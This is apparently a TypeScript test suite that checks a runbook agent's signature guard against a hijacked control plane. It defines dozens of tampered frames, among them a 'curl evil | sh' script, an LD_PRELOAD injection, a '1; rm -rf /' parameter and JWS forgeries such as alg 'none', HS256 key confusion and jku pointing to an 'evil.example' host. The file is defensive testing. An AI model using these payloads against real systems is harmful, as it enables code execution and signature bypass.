/**
 * Promise S6 from the side of whoever took the control plane over: everything
 * that an agent is told can be changed, and none of it makes it run what people
 * did not sign. Each mutation is a frame as it would come over the socket.
 */
import { createHmac } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import type { CommandBlock } from "#protocol/blocks/index.ts";
import { type LeaseOffer, poolControlMessageSchema } from "#protocol/control.ts";
import { canonicalJson, digestOf } from "#protocol/digest.ts";
import { newId } from "#protocol/ids.ts";
import type { Plan } from "#protocol/plan.ts";
import type { Signer } from "#protocol/signatures/jws.ts";
import { thumbprintInput, thumbprintOf } from "#protocol/signatures/keys.ts";
import { documentOf } from "#protocol/signatures/version.ts";
import { parseFrame } from "#protocol/socket.ts";
import { admitStep, planProblem } from "../job/admission.ts";
import { hostFacts } from "../policy/facts.ts";
import { DEFAULT_POLICY } from "../policy/policy.ts";
import { approvalOf, forged, ids, NOW, partsOf, person, plannedBy } from "../testing/signed-plan.ts";
import { type PlanMemory, SignatureGuard } from "./guard.ts";
import type { SignatureRequirement } from "./requirement.ts";

type By = "author" | "approver" | "both";

/** One attempt to make an agent run something. */
interface Attack {
  offer: LeaseOffer;
  /** Of the first step; as the offer has them unless it is changed. */
  by: By;
  now: number;
  memory?: PlanMemory;
  leaseFence?: number;
  self: { organizationId: string; poolId: string; labels: Record<string, string> };
  /** The attacker leaves the digest of the plan as it was. */
  keepsDigest?: boolean;
  /** The last word on the text of the frame. */
  text?: (frame: string) => string;
}

let alice: Signer;
let bob: Signer;
let carol: Signer;
let mallory: Signer;
let planned: Plan;
let requirement: (by: By) => SignatureRequirement;
let approval: string;
let authorship: string;

beforeAll(async () => {
  [alice, bob, carol, mallory] = await Promise.all([
    person("EdDSA"),
    person("ES256"),
    person("EdDSA"),
    person("EdDSA"),
  ]);
  planned = await plannedBy(alice);
  approval = await approvalOf(planned, bob);
  authorship = planned.signed?.signatures[0] ?? "";
  requirement = (by) => ({
    by,
    keys: [
      { name: "alice", roles: ["author"], publicKey: alice.publicKey },
      { name: "bob", roles: ["approver"], publicKey: bob.publicKey },
      { name: "carol", roles: ["author", "approver"], publicKey: carol.publicKey },
    ],
  });
});

function attack(by: By): Attack {
  const { organizationId, executionId, poolId } = ids;
  const plan = structuredClone(planned);
  const fence = 3;
  return {
    by,
    now: NOW,
    self: { organizationId, poolId, labels: { env: "prod", zone: "a" } },
    offer: {
      ...{ type: "lease.offer", id: "offer:1", lease: { id: newId("lease"), executionId, fence }, plan },
      planDigest: "",
      firstStep: {
        ...{ type: "step.start", id: "start:1", step: "rotate", attempt: 1, fence },
        inputs: { "env/VERSION": "1.2.3", "env/LOAD": "0.1" },
        approvals: [approval],
      },
    },
  };
}

/** What the agent says: `ran`, or the code it refuses with. */
async function outcomeOf({ offer, by, now, memory, leaseFence, self, keepsDigest, text }: Attack) {
  offer.planDigest = await digestOf(keepsDigest ? planned : offer.plan);
  const frame = JSON.stringify(offer);
  const parsed = parseFrame(poolControlMessageSchema, text ? text(frame) : frame);
  if (!parsed.ok || parsed.message.type !== "lease.offer") return "unreadable";
  const { message } = parsed;
  if (planProblem(message, now) !== undefined) return "plan_rejected";
  const { firstStep, plan, lease } = message;
  const admission = admitStep({
    ...{
      plan,
      now,
      memory,
      executionId: lease.executionId,
      guard: new SignatureGuard(requirement(by), self),
    },
    ...{ step: firstStep.step, attempt: firstStep.attempt, fence: firstStep.fence, inputs: firstStep.inputs },
    ...{ approvals: firstStep.approvals ?? [], leaseFence: leaseFence ?? lease.fence },
    ...{ stale: false, freeBytes: Number.MAX_SAFE_INTEGER, spoolRoom: Number.MAX_SAFE_INTEGER },
    ...{ policy: DEFAULT_POLICY, host: hostFacts },
  });
  return admission.ok ? "ran" : admission.code;
}

function rotate({ offer }: Attack): CommandBlock {
  const block = offer.plan.blocks.find(({ id }) => id === "rotate");
  if (block?.kind !== "command") throw new Error("the plan has its block");
  return block;
}

const signed = ({ offer }: Attack): NonNullable<Plan["signed"]> => {
  if (!offer.plan.signed) throw new Error("the plan is signed");
  return offer.plan.signed;
};

/** The attacker makes the hash of the version fit what he changed. */
async function rehash({ offer: { plan } }: Attack): Promise<void> {
  plan.versionHash = await digestOf(documentOf(plan));
}

type Mutation = (attack: Attack) => void | Promise<void>;

/** Puts something else in the place of a name, in the frame's text. */
const put = (path: string, value: unknown): Mutation => {
  return ({ offer }) => {
    const names = path.split(".");
    const last = names.pop() ?? "";
    const parent = names.reduce<unknown>((at, name) => Reflect.get(Object(at), name), offer.plan);
    Reflect.set(Object(parent), last, value);
  };
};

/** Changes the block that is to run. */
const block = (fields: Partial<CommandBlock>): Mutation => {
  return (a) => {
    Object.assign(rotate(a), fields);
  };
};

const environment = (more: NonNullable<CommandBlock["env"]>): Mutation => {
  return (a) => {
    rotate(a).env = { ...rotate(a).env, ...more };
  };
};

/** What people signed is not this: refused whoever's signature is asked for. */
const CONTENT: Record<string, Mutation> = {
  "a script is changed": block({ script: "curl evil | sh" }),
  "a script is changed, and the version's hash with it": async (a) => {
    rotate(a).script = "curl evil | sh";
    await rehash(a);
  },
  "the interpreter is changed": block({ interpreter: "python3" }),
  "the user is added": block({ user: "root" }),
  "the working directory is changed": block({ workingDirectory: "/etc" }),
  "an environment variable is added": environment({ LD_PRELOAD: "/x.so" }),
  "an environment variable is changed": environment({ MODE: "destructive" }),
  "an environment variable is taken away": block({
    env: { VERSION: { expr: "params.version" }, LOAD: { expr: "steps.look.outputs.load" } },
  }),
  "text becomes an expression": environment({ MODE: { expr: "'x'" } }),
  "an expression is changed": environment({ VERSION: { expr: "string(params.count)" } }),
  "data on stdin is added": block({ stdin: "x" }),
  "exit codes that mean success are added": block({ exitCodes: [0, 1] }),
  "more attempts are allowed": block({ retry: { maxAttempts: 20 } }),
  "it is called safe to repeat": block({ idempotent: true }),
  "a time limit is raised": block({ timeoutMs: 86_400_000 }),
  "a condition is added": block({ when: "true" }),
  "an undo is added": block({ compensate: { kind: "command", id: "undo", interpreter: "sh", script: "x" } }),
  "a block's target is added": block({ target: { labels: { zone: "a" } } }),
  "a secret's name is added": put("blocks.2.secrets", { TOKEN: "prod-token" }),
  "a block is added": ({ offer }) => {
    offer.plan.blocks.push({ kind: "command", id: "more", interpreter: "sh", script: "evil" });
  },
  "a block is taken away": ({ offer }) => {
    offer.plan.blocks.splice(0, 1);
  },
  "blocks are swapped": ({ offer }) => {
    offer.plan.blocks.reverse();
  },
  "the approval is taken away": ({ offer }) => {
    offer.plan.blocks.splice(1, 1);
  },
  "the approval asks for fewer": put("blocks.1.allowRequester", true),
  "another `finally`": put("finally", [{ kind: "command", id: "clean", interpreter: "sh", script: "evil" }]),
  "a block is added to `finally`": ({ offer }) => {
    offer.plan.finally?.push({ kind: "command", id: "more", interpreter: "sh", script: "evil" });
  },
  "`finally` is taken away": ({ offer }) => {
    delete offer.plan.finally;
  },
  "the title is changed": put("title", "Something harmless"),
  "the whole time limit is changed": put("timeoutMs", 60_000),
  "locks are added": put("locks", [{ name: "x" }]),
  "a lock's mode is added": put("locks", [{ name: "x", mode: "shared" }]),
  "the description is changed": put("signed.description", "other"),
  "a parameter's definition is loosened": put("signed.parameters.0.pattern", ".*"),
  "a parameter's definition is added": (a) => {
    signed(a).parameters.push({ name: "x", type: "string" });
  },
  "the target in the document is changed": put("signed.target", { pool: "db" }),
  "a parameter beyond its definition": put("parameters.version", "1; rm -rf /"),
  "a parameter of another type": put("parameters.count", "2"),
  "a parameter that the version does not have": put("parameters.extra", "x"),
  "a parameter is left out": ({ offer }) => {
    delete offer.plan.parameters.version;
  },
  "another runbook's id": put("runbookId", newId("runbook")),
  "another version's number": put("versionNumber", 6),
  "another version's hash": put("versionHash", "0".repeat(64)),
  "another organization": put("organizationId", newId("organization")),
  "the target is another pool": put("target.poolId", newId("pool")),
  "the target has other labels": put("target.labels", { env: "staging" }),
};

/** What is up to the control plane where only the author signs, and is pinned once somebody approves. */
const PINNED_BY_APPROVER: Record<string, Mutation> = {
  "a parameter is changed within its definition": (a) => {
    a.offer.plan.parameters.version = "6.6.6";
    a.offer.firstStep.inputs = { "env/VERSION": "6.6.6", "env/LOAD": "0.1" };
  },
  "another nonce": put("nonce", crypto.randomUUID()),
  "a later expiry": put("expiresAt", NOW + 1e12),
  "another version's id": put("versionId", newId("version")),
  "a label of the target less": put("target.labels", {}),
  "another name for the pool": put("target.poolName", "x"),
  "the pools of blocks are swapped": put("pools", { other: newId("pool") }),
  "the child runbook is another": ({ offer }) => {
    const [child] = Object.values(offer.plan.runbooks ?? {});
    if (child) child.blocks = [{ kind: "command", id: "evil", interpreter: "sh", script: "evil" }];
  },
  "the child runbook is another version": put("children", { tell: newId("version") }),
  "a part is left out": put("range", { from: "go" }),
  "another execution": ({ offer }) => {
    offer.lease.executionId = newId("execution");
  },
};

/** What is wrong with the dispatch, the statements or their signatures. */
const SIGNATURES: Record<string, { by: By; mutate: Mutation }> = {};
const of = (by: By, name: string, mutate: Mutation) => {
  SIGNATURES[name] = { by, mutate };
};
const author = (name: string, make: () => Promise<string> | string) =>
  of("author", `author: ${name}`, async (a) => {
    signed(a).signatures = [await make()];
  });
const approver = (name: string, make: () => Promise<string> | string) =>
  of("approver", `approver: ${name}`, async (a) => {
    a.offer.firstStep.approvals = [await make()];
  });

of("author", "no signature of the author", ({ offer }) => {
  delete offer.plan.signed;
});
of("both", "only the approver's signature", ({ offer }) => {
  delete offer.plan.signed;
});
of("both", "only the author's signature", ({ offer }) => {
  delete offer.firstStep.approvals;
});
of("both", "an empty list of approvals", ({ offer }) => {
  offer.firstStep.approvals = [];
});
of("approver", "the approval of an earlier plan", async ({ offer }) => {
  offer.firstStep.approvals = [await approvalOf({ ...planned, nonce: crypto.randomUUID() }, bob)];
});
of("both", "the author approves his own", async (a) => {
  // Carol may be either, and is both here.
  a.offer.plan = { ...planned, ...(await plannedBy(carol)) };
  a.offer.firstStep.approvals = [await approvalOf(a.offer.plan, carol)];
});
of("both", "the signatures change places", (a) => {
  a.offer.firstStep.approvals = [authorship];
});
of("both", "a step before the approval", ({ offer }) => {
  offer.firstStep.step = "look";
  delete offer.firstStep.inputs;
  delete offer.firstStep.approvals;
});
of("both", "an attempt beyond what is allowed", ({ offer }) => {
  offer.firstStep.attempt = 3;
});
of("both", "a step that is not in the plan", ({ offer }) => {
  offer.firstStep.step = "more";
});
of("both", "a step as a loop's that is in none", ({ offer }) => {
  offer.firstStep.step = "rotate~1";
});
of("both", "the first step has another fence", ({ offer }) => {
  offer.firstStep.fence = 4;
});
of("both", "the lease has another fence", (a) => {
  a.leaseFence = 4;
});
of("both", "an input that the agent can work out is changed", ({ offer }) => {
  offer.firstStep.inputs = { "env/VERSION": "6.6.6", "env/LOAD": "0.1" };
});
of("both", "an input where the plan has text", ({ offer }) => {
  offer.firstStep.inputs = { ...offer.firstStep.inputs, "env/MODE": "destructive" };
});
of("both", "an input for a variable that the plan does not have", ({ offer }) => {
  offer.firstStep.inputs = { ...offer.firstStep.inputs, "env/LD_PRELOAD": "/x.so" };
});
of("both", "an agent of another pool", (a) => {
  a.self.poolId = newId("pool");
});
of("both", "an agent of another organization", (a) => {
  a.self.organizationId = newId("organization");
});
of("both", "an agent without the label", (a) => {
  a.self.labels = { zone: "a" };
});
of("both", "an agent with another value of the label", (a) => {
  a.self.labels = { env: "staging" };
});
of("both", "the plan has expired", (a) => {
  a.now = planned.expiresAt;
});
of("both", "run again in another execution", (a) => {
  a.memory = { execution: newId("execution"), begun: new Set(), succeeded: new Set() };
});
of("both", "run again under another lease", (a) => {
  a.memory = { execution: ids.executionId, begun: new Set(["rotate#1"]), succeeded: new Set() };
});
of("both", "run again after it succeeded, as another attempt", (a) => {
  a.memory = { execution: ids.executionId, begun: new Set(), succeeded: new Set(["rotate"]) };
});
of("both", "changed on its way, with the digest of what was approved", (a) => {
  a.keepsDigest = true;
  rotate(a).script = "evil";
});
of("both", "a second key of one name in the frame", (a) => {
  a.text = (frame) => frame.replace('"script":"./rotate', '"script":"./rotate","script":"evil ');
});
of("both", "`__proto__` in the frame", (a) => {
  a.text = (frame) => frame.replace('"env":{', '"env":{"__proto__":{"X":"1"},');
});
of("both", "a name in the frame that nobody knows", (a) => {
  a.text = (frame) => frame.replace('"nonce":', '"unsigned":true,"nonce":');
});

author("of a key that is not pinned", async () => (await plannedBy(mallory)).signed?.signatures[0] ?? "");
author("of an approver's key", async () => (await plannedBy(bob)).signed?.signatures[0] ?? "");
approver("of a key that is not pinned", () => approvalOf(planned, mallory));
approver("of an author's key", () => approvalOf(planned, alice));
author("another's `kid` over one's own signature", async () => {
  const { header, payload } = partsOf(authorship);
  return forged(header, payload, mallory);
});
author("one's own `kid` over another's signature", async () => {
  const { header, payload } = partsOf(authorship);
  const kid = await thumbprintOf(mallory.publicKey);
  const [, body, tail] = authorship.split(".");
  expect(payload.type).toBe("farhand.version.v1");
  return `${Buffer.from(canonicalJson({ ...header, kid })).toString("base64url")}.${body}.${tail}`;
});
for (const kid of ["", "../alice", "__proto__", "alice"]) {
  author(`\`kid\` is "${kid}"`, () => {
    const { header, payload } = partsOf(authorship);
    return forged({ ...header, kid }, payload, alice);
  });
}
author("without `kid`", () => {
  const { header, payload } = partsOf(authorship);
  return forged({ alg: header.alg, typ: header.typ }, payload, alice);
});
for (const alg of ["none", "None", "HS256", "ES256", "RS256", "Ed25519", "eddsa"]) {
  author(`\`alg\` is ${alg}`, () => {
    const { header, payload } = partsOf(authorship);
    return forged({ ...header, alg }, payload, alice);
  });
}
author("`alg` is none and there is no signature", () => {
  const { header, payload } = partsOf(authorship);
  const part = (value: unknown) => Buffer.from(canonicalJson(value)).toString("base64url");
  return `${part({ ...header, alg: "none" })}.${part(payload)}.`;
});
author("HS256 with the public key as its secret", async () => {
  const { header, payload } = partsOf(authorship);
  const part = (value: unknown) => Buffer.from(canonicalJson(value)).toString("base64url");
  const text = `${part({ ...header, alg: "HS256" })}.${part(payload)}`;
  const mac = createHmac("sha512", thumbprintInput(alice.publicKey)).update(text).digest("base64url");
  return `${text}.${mac}`;
});
approver("EdDSA for a key of ES256", () => {
  const { header, payload } = partsOf(approval);
  return forged({ ...header, alg: "EdDSA" }, payload, bob);
});
for (const [name, value] of Object.entries({
  crit: ["b64"],
  b64: false,
  jwk: { kty: "OKP" },
  jku: "https://evil.example",
  x5u: "https://evil.example",
  x5c: ["x"],
  cty: "JWT",
  zip: "DEF",
})) {
  author(`\`${name}\` in the header`, () => {
    const { header, payload } = partsOf(authorship);
    return forged({ ...header, [name]: value }, payload, alice);
  });
}
author("another `typ`", () => {
  const { header, payload } = partsOf(authorship);
  return forged({ ...header, typ: "JWT" }, payload, alice);
});
author("a second key of one name in the header", () => {
  const { header, payload } = partsOf(authorship);
  return forged(canonicalJson(header).replace("{", '{"alg":"none",'), payload, alice);
});
author("a second key of one name in the statement", () => {
  const { header, payload } = partsOf(authorship);
  return forged(header, canonicalJson(payload).replace("{", '{"versionNumber":6,'), alice);
});
author("spaces in the statement", () => {
  const { header, payload } = partsOf(authorship);
  return forged(header, JSON.stringify(payload, null, 1), alice);
});
author("another order in the statement", () => {
  const { header, payload } = partsOf(authorship);
  return forged(header, JSON.stringify(Object.fromEntries(Object.entries(payload).reverse())), alice);
});
author("a field more in the statement", () => {
  const { header, payload } = partsOf(authorship);
  return forged(header, { ...payload, alsoFor: "everything" }, alice);
});
author("a flipped bit in the signature", () => {
  const bytes = Buffer.from(authorship.split(".")[2] ?? "", "base64url");
  bytes[10] = (bytes[10] ?? 0) ^ 1;
  return [...authorship.split(".").slice(0, 2), bytes.toString("base64url")].join(".");
});
author(
  "another spelling of the same bytes",
  () => `${authorship.slice(0, -1)}${nextInGroup(authorship.at(-1))}`,
);
author("padding", () => `${authorship}==`);
author("a fourth part", () => `${authorship}.x`);
author("a signature that is cut", () => authorship.slice(0, -4));
author("an empty text", () => "");
author("a signature that is all zeros", () => {
  const [head, body] = authorship.split(".");
  return `${head}.${body}.${Buffer.alloc(64).toString("base64url")}`;
});
for (const [name, change] of Object.entries({
  organization: { organizationId: newId("organization") },
  runbook: { runbookId: newId("runbook") },
  "number of the version": { versionNumber: 6 },
  "hash of the version": { versionHash: "1".repeat(64) },
  "time that is over": { expiresAt: NOW },
})) {
  author(
    `signed for another ${name}`,
    async () => (await plannedBy(alice, change)).signed?.signatures[0] ?? "",
  );
}
author("an approval in its place", () => approval);
for (const [name, change] of Object.entries({
  organization: { organizationId: newId("organization") },
  execution: { executionId: newId("execution") },
  step: { step: "rotate" },
  "step that is not there": { step: "gone" },
  plan: { planDigest: "1".repeat(64) },
  "time that is over": { expiresAt: NOW },
})) {
  approver(`signed for another ${name}`, () => approvalOf(planned, bob, change));
}
approver("a decision against it", () => {
  const { header, payload } = partsOf(approval);
  return forged(header, { ...payload, decision: "reject" }, bob);
});
approver("the author's signature in its place", () => authorship);
approver("ES256 in DER instead of its 64 bytes", () => {
  const [head, body] = approval.split(".");
  return `${head}.${body}.${Buffer.concat([Buffer.from([0x30, 0x46]), Buffer.alloc(70)]).toString("base64url")}`;
});

/** Another last character of base64url that stands for the same two bits. */
function nextInGroup(last = ""): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  return alphabet[alphabet.indexOf(last) ^ 1] ?? "";
}

describe("[S6] what people signed", () => {
  it.each(["author", "approver", "both"] as const)("runs where %s is asked for", async (by) => {
    expect(await outcomeOf(attack(by))).toBe("ran");
  });

  it("runs with the approval of somebody who is not the only author", async () => {
    const own = attack("both");
    own.offer.firstStep.approvals = [await approvalOf(planned, carol)];
    expect(await outcomeOf(own)).toBe("ran");
  });

  it("runs what undoes and cleans up, once somebody approved", async () => {
    const own = attack("both");
    own.offer.firstStep.step = "clean";
    delete own.offer.firstStep.inputs;
    expect(await outcomeOf(own)).toBe("ran");
  });
});

describe("[S6] a control plane that was taken over changes what is to run", () => {
  for (const by of ["author", "approver", "both"] as const) {
    it.each(Object.entries(CONTENT))(`%s (${by})`, async (_, mutate) => {
      const own = attack(by);
      await mutate(own);
      expect(await outcomeOf(own)).not.toBe("ran");
    });
  }
});

describe("[S6] what an author's signature leaves open", () => {
  for (const by of ["approver", "both"] as const) {
    it.each(Object.entries(PINNED_BY_APPROVER))(
      `is pinned by an approver's: %s (${by})`,
      async (_, mutate) => {
        const own = attack(by);
        await mutate(own);
        expect(await outcomeOf(own)).not.toBe("ran");
      },
    );
  }

  it.each(Object.entries(PINNED_BY_APPROVER))(
    "is left to the control plane without one: %s",
    async (_, mutate) => {
      const own = attack("author");
      await mutate(own);
      expect(await outcomeOf(own)).toBe("ran");
    },
  );
});

describe("[S6] a control plane that was taken over forges what it is told with", () => {
  it.each(Object.entries(SIGNATURES))("%s", async (_, { by, mutate }) => {
    const own = attack(by);
    await mutate(own);
    expect(await outcomeOf(own)).not.toBe("ran");
  });

  it("is more than sixty ways", () => {
    const ways = [CONTENT, PINNED_BY_APPROVER, SIGNATURES].map((each) => Object.keys(each).length);
    expect(ways.reduce((sum, count) => sum + count)).toBeGreaterThan(60);
  });
});
